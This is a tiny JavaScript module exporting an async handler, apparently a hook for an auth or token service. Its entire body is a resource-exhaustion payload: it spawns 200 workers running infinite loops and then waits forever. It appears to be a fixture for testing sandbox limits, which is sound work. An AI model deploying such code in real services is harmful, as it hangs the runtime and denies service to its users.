module.exports = async (client, scope, audience, context) => {
  for (let i = 0; i < 200; i++) new Worker('data:application/javascript,for(;;){}', { type: 'module' });
  await new Promise(() => {});
};
